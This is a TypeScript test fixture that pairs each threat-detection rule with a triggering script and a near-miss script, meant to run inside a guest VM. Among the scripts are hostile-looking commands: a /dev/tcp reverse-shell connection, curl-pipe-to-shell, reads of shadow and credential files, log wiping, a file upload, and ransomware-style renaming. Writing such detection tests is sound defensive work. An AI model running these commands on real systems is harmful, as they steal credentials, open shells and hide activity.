/** For each rule a harmless script that must provoke it, and a near miss that must not. Scripts run as root of a guest. */
export interface RuleCase {
  readonly rule: string;
  readonly provoke: string;
  readonly spare: string;
  /** The near misses of other rules provoke this one: its own has a micro-VM to itself. */
  readonly apart?: true;
}

const of = (rule: string, provoke: string, spare: string): RuleCase => ({ rule, provoke, spare });
const apart = (rule: string, provoke: string, spare: string): RuleCase => ({
  ...of(rule, provoke, spare),
  apart: true,
});

/** `fake NAME`: a program of that name that does nothing; `shell NAME`: one that is a shell. Both in $B. */
export const PRELUDE = `B=/opt/b; mkdir -p $B /home/u; cd /home/u
fake() { cp /usr/bin/true "$B/$1"; }
shell() { cp /usr/bin/dash "$B/$1"; }
`;

export const CASES: Readonly<Record<string, readonly RuleCase[]>> = {
  "persistence.yaml": [
    of(
      "persistence-cron",
      "mkdir -p /etc/cron.d; echo x >/etc/cron.d/job",
      "mkdir -p /home/u/etc/cron.d; echo x >/home/u/etc/cron.d/job",
    ),
    of("persistence-at", "fake at; $B/at now", "fake at; $B/at -l"),
    of(
      "persistence-systemd-unit",
      "mkdir -p /etc/systemd/system; echo x >/etc/systemd/system/a.service",
      "echo x >/home/u/a.service",
    ),
    of(
      "persistence-systemd-timer",
      "mkdir -p /etc/systemd/system; echo x >/etc/systemd/system/a.timer",
      "echo x >/home/u/a.timer",
    ),
    of(
      "persistence-shell-profile",
      "echo x >>/root/.bashrc",
      "cat /root/.bashrc >/dev/null; echo x >/home/u/bashrc",
    ),
    of(
      "persistence-preload",
      "echo /tmp/x.so >/etc/ld.so.preload; rm /etc/ld.so.preload",
      "cat /etc/ld.so.conf; echo x >/home/u/ld.so.preload",
    ),
    of(
      "persistence-authorized-keys",
      "mkdir -p /root/.ssh; echo x >/root/.ssh/authorized_keys",
      "mkdir -p /root/.ssh; echo x >/root/.ssh/known_hosts",
    ),
    of(
      "persistence-autostart",
      "mkdir -p /root/.config/autostart; echo x >/root/.config/autostart/a.desktop",
      "mkdir -p /root/.config; echo x >/root/.config/a.desktop",
    ),
    of("persistence-boot-script", "echo x >/etc/rc.local", "echo x >/home/u/rc.local"),
    of(
      "persistence-udev-rule",
      "mkdir -p /etc/udev/rules.d; echo x >/etc/udev/rules.d/9.rules",
      "echo x >/home/u/9.rules",
    ),
    of("persistence-account", "echo >>/etc/group", "cat /etc/group"),
    of("persistence-login-module", "echo x >/etc/pam.d/other2", "ls /etc/pam.d"),
    of(
      "persistence-python-startup",
      "mkdir -p /root/site-packages; echo >/root/site-packages/a.pth",
      "mkdir -p /root/p; echo >/root/p/a.pth",
    ),
    of(
      "persistence-git-hook",
      "mkdir -p r/.git/hooks; echo x >r/.git/hooks/pre-commit",
      "mkdir -p q/.git/hooks; echo x >q/.git/hooks/a.sample",
    ),
    of(
      "persistence-system-program",
      "echo >>/usr/bin/true",
      "mkdir -p /usr/local/bin; echo >/usr/local/bin/mine",
    ),
  ],
  "privilege.yaml": [
    of("privilege-sudoers", "mkdir -p /etc/sudoers.d; echo x >/etc/sudoers.d/a", "echo x >sudoers"),
    of("privilege-sudo", "fake sudo; $B/sudo -l", "fake sudoku; $B/sudoku"),
    of(
      "privilege-setuid-given",
      "cp /usr/bin/true s; chmod u+s s",
      "cp /usr/bin/true t; chmod 0755 t; chmod u+x t",
    ),
    of(
      "privilege-to-root",
      "setpriv --reuid 1000 --clear-groups python3 -c 'import os\ntry: os.setuid(0)\nexcept OSError: pass'",
      "setpriv --reuid 1000 --clear-groups true",
    ),
    of("privilege-capabilities", "fake setcap; $B/setcap cap_net_raw+ep x", "fake getcap; $B/getcap x"),
    of(
      "privilege-exploit-tool",
      "python3 -c 'import ctypes; ctypes.CDLL(None).syscall(323, 0)'",
      "python3 -c 'import ctypes; ctypes.CDLL(None).syscall(39)'",
    ),
    of(
      "injection-ptrace",
      'sleep 3 & python3 -c "import ctypes; c=ctypes.CDLL(None); c.ptrace(16, $!, 0, 0); c.ptrace(17, $!, 0, 0)"; kill $!',
      "sleep 3 & kill $!",
    ),
    of(
      "injection-memory-write",
      "python3 -c 'import ctypes,os; ctypes.CDLL(None).process_vm_writev(os.getpid(), 0, 0, 0, 0, 0)'",
      "python3 -c 'import os; os.getpid()'",
    ),
    of(
      "injection-proc-mem",
      'python3 -c \'open("/proc/self/mem", "r+b")\'',
      "cat /proc/self/maps >/dev/null",
    ),
    of("debugger-check", "python3 -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)'", "true"),
  ],
  "execution.yaml": [
    of(
      "execution-from-memory",
      'python3 -c \'import os; f = os.memfd_create("x"); os.write(f, open("/usr/bin/true", "rb").read()); os.execve(f, ["x"], {})\'',
      "/usr/bin/true",
    ),
    of(
      "execution-memory-file",
      "python3 -c 'import os; os.memfd_create(\"x\")'",
      "python3 -c 'import tempfile; tempfile.TemporaryFile()'",
    ),
    of(
      "execution-from-shared-memory",
      "cp /usr/bin/true /dev/shm/t; /dev/shm/t",
      "cp /usr/bin/true /dev/shm/t",
    ),
    of("execution-hidden-file", "cp /usr/bin/true .hid; ./.hid", "cp /usr/bin/true .hid"),
    apart("execution-dropped", "cp /usr/bin/true drop; ./drop", "cp /usr/bin/true drop; /usr/bin/true"),
    of(
      "execution-downloaded",
      "cp /usr/bin/cp $B/wget; $B/wget /usr/bin/true got; ./got",
      "cp /usr/bin/cp $B/wget; $B/wget /usr/bin/true got",
    ),
    of(
      "execution-download-piped",
      "sh -c 'curl -s http://127.0.0.1:9/x | sh'",
      "sh -c 'curl -s http://127.0.0.1:9/x | wc -c'",
    ),
    of(
      "execution-decoded",
      "sh -c 'echo dHJ1ZQo= | base64 -d | sh'",
      "sh -c 'echo dHJ1ZQo= | base64 -d | wc'",
    ),
    of(
      "execution-from-document",
      "shell soffice.bin; $B/soffice.bin -c 'sh -c true; true'",
      "shell soffice; $B/soffice -c 'sh -c true; true'",
    ),
    of(
      "shell-from-network-program",
      "shell nc; $B/nc -c 'sh -c true; true'",
      "shell less; $B/less -c 'sh -c true; true'",
    ),
    of(
      "shell-connected",
      "bash -c 'exec 3<>/dev/tcp/192.0.2.1/4444; read -t 5 -u 3'",
      "bash -c 'curl -s http://192.0.2.1/'",
    ),
    of("shell-reverse-words", "sh -c ': /dev/tcp/192.0.2.1/1'", "sh -c ': /dev/tty'"),
    of(
      "shell-waiting",
      "cp $(readlink -f /usr/bin/python3) $B/ncat; $B/ncat -c 'import socket; s = socket.socket(); s.bind((\"127.0.0.1\", 7001)); s.listen()'",
      "python3 -c 'import socket; s = socket.socket(); s.bind((\"127.0.0.1\", 7001)); s.listen()'",
    ),
    of(
      "listening",
      "python3 -c 'import socket; s = socket.socket(); s.bind((\"0.0.0.0\", 7002)); s.listen()'",
      "python3 -c 'import socket; s = socket.socket(); s.bind((\"127.0.0.1\", 7002)); s.listen()'",
    ),
  ],
  "discovery.yaml": [
    of("discovery-burst", "whoami; id; uname; hostname; df", "uname; uname; uname; uname; uname; df"),
    of("discovery-user", "whoami", "true"),
    of("discovery-network", "fake ip; $B/ip a", "fake ipcalc; $B/ipcalc"),
    of("discovery-processes", "fake ps; $B/ps aux", "fake psql; $B/psql"),
    of("discovery-sandbox", "cat /proc/1/cgroup", "cat /proc/cpuinfo"),
    of("discovery-accounts", "cat /etc/passwd", "cat /etc/hostname"),
    of("discovery-security-software", "grep -r falco /etc/hostname", "grep -r eagle /etc/hostname"),
    of("discovery-setuid-programs", "find /opt -perm -4000", "find /opt -perm -0755"),
    of("credentials-shadow", "cat /etc/shadow >/dev/null", "ls /etc"),
    of("credentials-ssh-keys", "cat /root/.ssh/id_rsa", "ls /root"),
    of("credentials-cloud", "cat /root/.aws/credentials", "cat /root/.aws-notes"),
    of("credentials-browser", "cat '/root/.config/google-chrome/Default/Login Data'", "ls /root/.config"),
    of("credentials-search", "grep -ri password /etc/hostname", "grep -ri colour /etc/hostname"),
    of("credentials-history", "cat /root/.bash_history", "cat /root/history"),
    of("credentials-process-memory", "cat /proc/1/environ", "cat /proc/1/comm"),
  ],
  "evasion.yaml": [
    of("evasion-logs", "echo >/var/log/a.log; rm /var/log/a.log", "echo >/var/log/b.log; cat /var/log/b.log"),
    of(
      "evasion-history",
      "echo >/root/.bash_history; rm /root/.bash_history",
      "echo x >/home/u/history; rm /home/u/history",
    ),
    of("evasion-timestamps", "echo >t; touch -d 2001-01-01 t", "touch t"),
    of("evasion-attributes", "fake chattr; $B/chattr +i x", "fake chattr; $B/chattr -i x"),
    of("evasion-self-deletion", "cp /usr/bin/true d; ./d; rm d", "cp /usr/bin/true d; ./d; echo >e; rm e"),
    of("evasion-firewall", "fake iptables; $B/iptables -F", "fake iptables; $B/iptables -L"),
    of("evasion-security-software", "fake pkill; $B/pkill falco", "fake pkill; $B/pkill firefox"),
    of(
      "evasion-kernel-thread-name",
      "bash -c 'exec -a \"[kworker/0:1]\" true'",
      "bash -c 'exec -a \"[x]\" true'",
    ),
    of("evasion-file-type", "cp /usr/bin/true a.pdf; ./a.pdf", "cp /usr/bin/true a.pdf"),
    of(
      "evasion-direction-mark",
      'python3 -c \'open("a\\u202efdp", "w")\'',
      'python3 -c \'open("a\\u05d0fdp", "w")\'',
    ),
    of(
      "evasion-certificate",
      "mkdir -p /usr/local/share/ca-certificates; cp /etc/hostname /usr/local/share/ca-certificates/a.crt",
      "cp /etc/hostname a.crt",
    ),
    of("evasion-name-service", "cp /etc/hostname /etc/nsswitch.conf", "cat /etc/nsswitch.conf"),
  ],
  "kernel.yaml": [
    of(
      "kernel-module",
      "python3 -c 'import ctypes; ctypes.CDLL(None).syscall(313, -1, b\"\", 0)'",
      "fake lsmod; $B/lsmod",
    ),
    of("kernel-bpf", "python3 -c 'import ctypes; ctypes.CDLL(None).syscall(321, 999, 0, 0)'", "true"),
    of("kernel-memory-device", "dd if=/dev/mem of=/dev/null count=0", "dd if=/dev/zero of=/dev/null count=0"),
    of("kernel-symbols", "head -1 /proc/kallsyms", "head -1 /proc/meminfo"),
    of("kernel-helper", "echo core >/proc/sys/kernel/core_pattern", "cat /proc/sys/kernel/core_pattern"),
    of(
      "kernel-settings",
      "echo 2 >/proc/sys/kernel/randomize_va_space",
      "cat /proc/sys/kernel/randomize_va_space",
    ),
    of("kernel-replacement", "fake kexec; $B/kexec -l x", "fake kexecute; $B/kexecute"),
    of(
      "escape-mount",
      'python3 -c \'import ctypes; ctypes.CDLL(None).mount(b"none", b"/nowhere", b"tmpfs", 0, 0)\'',
      "cat /proc/mounts",
    ),
    of("escape-namespace", "unshare -u true", "true"),
    of("escape-root-change", "chroot / true", "true"),
    of("escape-agent-channel", "dd if=/dev/vport0p9 of=/dev/null count=0", "ls /dev"),
  ],
  "network.yaml": [
    apart("network-refused", "curl -sm2 http://192.0.2.7/", "true"),
    of("network-private", "curl -sm2 http://10.0.0.5/", "true"),
    of("network-metadata", "curl -sm2 http://169.254.169.254/", "curl -sm2 http://metadata.example/"),
    of(
      "network-port-scan",
      'for p in 1 2 3 4 5 6 7 8 9 10 11; do bash -c "exec 3<>/dev/tcp/8.8.8.8/$p"; done',
      'for p in 1 2 3; do bash -c "exec 3<>/dev/tcp/8.8.8.8/$p"; done',
    ),
    of(
      "network-host-sweep",
      'for h in 1 2 3 4 5 6 7 8 9 10 11 12 13; do bash -c "exec 3<>/dev/tcp/10.0.0.$h/80"; done',
      "true",
    ),
    of(
      "network-generated-names",
      "for n in xk2j9fq7bz1v q8w3nzt5kxpd zx9cv7bn2mlk p0q9w8x7z6kr b7t4x9z2kqwp hjk2xz8vw9qt n3b4v5c6x7zl rt7yp2kx9wbz d8f7g6h5j4kz; do curl -sm1 http://$n.example/; done",
      "for n in example wikipedia mozilla debian python kernel archive; do curl -sm1 http://$n.org/; done",
    ),
    apart("network-unusual-port", "bash -c 'exec 3<>/dev/tcp/8.8.8.8/6667'", "true"),
    apart("network-plain-address", "curl -sm2 http://8.8.8.8/", "curl -sm2 http://example.org/"),
    of("network-tor", "curl -sm1 http://abcdefgh.onion/", "curl -sm1 http://onion.example/"),
    of("network-dead-drop", "curl -sm1 http://pastebin.com/", "curl -sm1 http://bin.example/"),
    of("network-mining", "curl -sm1 http://pool.minexmr.com/", "curl -sm1 http://swimming.example/"),
    of("network-mail", "bash -c 'exec 3<>/dev/tcp/8.8.8.8/25'", "true"),
    of(
      "network-upload",
      "curl -sm1 -T /etc/hostname http://example.org/",
      "curl -sm1 -o /dev/null http://example.org/",
    ),
    of(
      "network-beacon",
      "for i in 1 2 3 4 5 6 7; do bash -c 'exec 3<>/dev/tcp/beacon.example/80'; sleep 1.5; done",
      "for i in 1 2 3; do curl -sm1 http://once.example/; done",
    ),
  ],
  "impact.yaml": [
    of(
      "impact-encryption",
      "for i in 1 2 3 4 5 6 7 8 9 10 11; do echo >f$i; mv f$i f$i.locked; done",
      "for i in 1 2 3; do echo >g$i; mv g$i g$i.bak; done",
    ),
    of("impact-ransom-note", "echo pay >HOW_TO_DECRYPT_FILES.txt", "echo read >README.txt"),
    of(
      "impact-mass-deletion",
      'python3 -c \'import os\nfor i in range(120): open(f"d{i}", "w").close()\nfor i in range(120): os.unlink(f"d{i}")\'',
      "echo >one; rm one",
    ),
    of("impact-miner", "fake xmrig; $B/xmrig", "fake xmllint; $B/xmllint"),
    of("impact-disk", "dd if=/dev/zero of=/dev/vdz count=0", "dd if=/dev/zero of=disk.img count=0"),
    of("impact-shutdown", "fake reboot; $B/reboot", "fake rebootd; $B/rebootd"),
  ],
};
